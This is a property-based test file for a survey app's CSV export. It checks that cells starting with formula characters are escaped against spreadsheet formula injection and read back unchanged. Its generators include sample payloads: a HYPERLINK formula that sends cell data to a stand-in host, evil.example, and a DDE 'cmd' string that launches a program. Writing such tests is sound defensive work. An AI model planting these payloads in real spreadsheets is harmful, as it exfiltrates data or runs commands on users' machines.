// CSV export injection: a spreadsheet runs a cell that starts with = + - @ (or a
// tab or CR before one) as a formula. exportDistributionCsv writes such cells
// with a leading "'", and the reader takes it off again, so every label comes
// back exactly as it was.
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { tableToCsv } from '../../../src/core/export/csv';
import { unescapeCell } from '../../../src/core/export/formula';
import { exportDistributionCsv } from '../../../src/core/published/export';

/** One cell as the one CSV writer writes it. */
const csvCell = (text: string): string => tableToCsv([[text]]).slice(0, -1);
import { parseDistributionCsv } from '../../../src/core/published/parse';
import type { PublishedSurvey } from '../../../src/core/published/types';
import { loadSurveyFile } from '../../../src/core/pipeline';

// What a spreadsheet runs: a sign, "=" or "@" first (after any spaces), a tab or CR, unless
// the cell is a plain number ("-5", "+2.3%"), which every spreadsheet reads as a number.
const FORMULA = /^[\t\r]|^\s*[=+\-@]/u;
const PLAIN_NUMBER = /^[+-]?(?:\d+|\d{1,3}(?:,\d{3})+)(?:\.\d+)?%?$/;
const FORMULA_START = {
  test: (cell: string) =>
    FORMULA.test(cell) && (/^[\t\r]/.test(cell) || !PLAIN_NUMBER.test(cell.trim())),
};

/** Text that a spreadsheet would run: a formula character first, then anything. */
const formulaLike = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'=", "''", "'\t", '\t=', '\r='),
    fc.constantFrom(
      'HYPERLINK("http://evil.example/?"&A1,"Click")',
      "cmd|' /C calc'!A0",
      '1+1',
      'SUM(A1:A9)',
      '微信',
      '5',
      '',
      ' ',
      'x,y',
      '"q"',
    ),
  )
  .map(([head, tail]) => `${head}${tail}`)
  // Cells are read trimmed: text that trims to nothing, or ends in a space, is not a label.
  .filter((s) => s.trim() !== '' && s === s.trimEnd());

const plainLabel = fc.constantFrom('Yes', 'No', '微信', 'Never, but open to it', '<b>x</b>');
const label = fc.oneof(formulaLike, plainLabel);

/** A survey whose every text field may start like a formula. */
const survey: fc.Arbitrary<PublishedSurvey> = fc
  .record({
    title: label,
    publisher: fc.option(label, { nil: null }),
    source: fc.option(label, { nil: null }),
    questions: fc.array(
      fc.record({
        text: label,
        note: fc.option(label, { nil: null }),
        segment: fc.option(label, { nil: null }),
        base: fc.option(label, { nil: null }),
        labels: fc.uniqueArray(label, { minLength: 1, maxLength: 5 }),
      }),
      { minLength: 1, maxLength: 3 },
    ),
  })
  .map(({ title, publisher, source, questions }): PublishedSurvey => ({
    format: 'distribution',
    meta: { title, publisher, date: null, population: null, source, sourceUrl: null },
    questions: questions.map((q, i) => ({
      id: `q${i + 1}`,
      text: q.text,
      declaredKind: null,
      note: q.note,
      series: [
        {
          segment: q.segment,
          base: q.base,
          subgroup: false,
          baseN: null,
          options: q.labels.map((l, k) => ({
            label: l,
            percent: { text: `${10 + k}%`, value: 10 + k, decimals: 0, lowerBound: false },
            rank: null,
            omitted: false,
          })),
        },
      ],
    })),
  }));

/** The cells of a CSV text as a spreadsheet reads them (RFC 4180, no trimming). */
function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv, { delimiter: ',', skipEmptyLines: true });
  return parsed.data.flat();
}

describe('CSV export of published figures', () => {
  it('never writes a cell a spreadsheet would run as a formula', () => {
    fc.assert(
      fc.property(survey, (s) => {
        for (const cell of cellsOf(exportDistributionCsv(s)))
          expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
      }),
      { seed: 9101, numRuns: 200 },
    );
  });

  it('reads every escaped label back exactly as it was', () => {
    fc.assert(
      fc.property(survey, (s) => {
        const csv = exportDistributionCsv(s);
        const back = parseDistributionCsv(csv, 'export.csv');
        if (!back.ok) throw new Error(`${back.error.message}\n${csv}`);
        expect(back.value).toEqual(s);
        expect(exportDistributionCsv(back.value)).toBe(csv);
      }),
      { seed: 9102, numRuns: 200 },
    );
  });

  it('reads the same survey through the import pipeline', () => {
    fc.assert(
      fc.property(survey, (s) => {
        const csv = exportDistributionCsv(s);
        const r = loadSurveyFile(new TextEncoder().encode(csv), { file: 'export.csv' });
        if (!r.ok) throw new Error(`${r.error.message}\n${csv}`);
        expect(r.value.kind === 'distribution' && r.value.survey).toEqual(s);
      }),
      { seed: 9103, numRuns: 100 },
    );
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', '+1'],
    ['-1', '-1'],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ["'=1+1", "''=1+1"],
    ["'\t=1", `''\t=1`],
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    ["it's", "it's"],
    ['a=b', 'a=b'],
  ])('writes %j as the cell %j and reads it back', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
    const raw = cellsOf(`${cell}\n`)[0] ?? '';
    expect(unescapeCell(raw)).toBe(text);
  });
});
